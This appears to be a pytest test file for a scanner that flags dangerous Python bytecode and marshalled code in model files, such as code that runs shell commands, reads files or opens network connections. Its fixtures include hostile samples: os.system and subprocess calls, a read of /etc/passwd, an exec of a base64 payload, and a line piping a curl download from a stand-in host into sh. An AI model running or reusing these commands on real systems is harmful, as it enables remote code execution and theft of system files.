from __future__ import annotations

import importlib.util
import marshal as standard
from types import CodeType

import pytest

from modelward.formats.bytecode import compiled, harm, marshalled


def code_of(source: str) -> bytes:
    code = next(const for const in compile(source, "x", "eval").co_consts if isinstance(const, CodeType))
    return standard.dumps(code)


@pytest.mark.parametrize(
    ("source", "what"),
    [
        ("lambda x: __import__('os').system('id') or x", "runs a shell command"),
        ("lambda x: exec('import os')", "runs Python code"),
        ("lambda x: (lambda: (lambda: eval(x)))()", "runs Python code"),
        ("lambda x: __import__('subprocess').run(x)", "runs a shell command"),
        ("lambda x: x.__class__.__mro__[1].__subclasses__()", "imports or reaches anything by name"),
        ("lambda x: open('/etc/passwd').read()", "reads or writes files"),
        ("lambda x: tf.io.write_file('/tmp/x', x)", "reads or writes files"),
        ("lambda x: urllib.request.urlopen(x)", "opens a network connection"),
        ("lambda x: pickle.loads(x)", "loads a pickle"),
    ],
)
def test_harm_is_told_by_the_names_that_code_uses(source: str, what: str) -> None:
    assert marshalled(code_of(source))[1] == what


@pytest.mark.parametrize(
    "source",
    ["lambda x: x / 255.0", "lambda x: tf.expand_dims(x, -1)", "lambda x: K.l2_normalize(x, axis=1)"],
)
def test_arithmetic_shows_no_harm(source: str) -> None:
    assert marshalled(code_of(source))[1] is None


def test_words_in_constants_are_no_harm_where_nothing_is_imported() -> None:
    assert marshalled(code_of("lambda x: x + 'os system eval exec'"))[1] is None


def test_source_in_place_of_code_counts_by_its_words() -> None:
    shown, what = marshalled(b"import os; os.system('id')")
    assert what == "runs a shell command"
    assert "system" in shown


def test_gravest_harm_is_told() -> None:
    assert harm(["open", "os", "system"]) == "runs a shell command"
    assert harm(["matmul"]) is None


def module(source: str, header: int = 16) -> bytes:
    code = compile(source, "x.py", "exec")
    return importlib.util.MAGIC_NUMBER + bytes(header - 4) + standard.dumps(code)


@pytest.mark.parametrize("header", [8, 12, 16])
def test_module_that_runs_a_command_when_imported(header: int) -> None:
    found = compiled(module("import os\nos.system('id')\n", header))
    assert found is not None
    assert found[1] == "runs a shell command"


def test_module_whose_functions_run_commands_is_only_unverified() -> None:
    found = compiled(module("import os\ndef f():\n    os.system('id')\n"))
    assert found is not None
    assert found[1] is None


@pytest.mark.parametrize("data", [b"", b"c", bytes(40), b"ab\r\n" + bytes(12) + b"c123"])
def test_other_bytes_are_no_module(data: bytes) -> None:
    assert compiled(data) is None


@pytest.mark.parametrize(
    "source",
    [
        "from platform import system\nif system() == 'Windows':\n    x = 'dir'\n",
        "class A:\n    def eval(self): pass\n    name = 'a (b)'\n",
        "import os, builtins\nexec = builtins.exec\n",
    ],
)
def test_names_alone_show_no_harm(source: str) -> None:
    found = compiled(module(source))
    assert found is not None
    assert found[1] is None


@pytest.mark.parametrize(
    "source",
    [
        "import base64\nexec(base64.b64decode('eA=='))\n",
        "__import__('os').system('curl http://evil.tld/x | sh')\n",
        "import subprocess\nsubprocess.Popen('whoami')\n",
        "exec(\"import os; os.system('id')\")\n",
    ],
)
def test_module_that_harms_when_imported(source: str) -> None:
    found = compiled(module(source))
    assert found is not None
    assert found[1] is not None
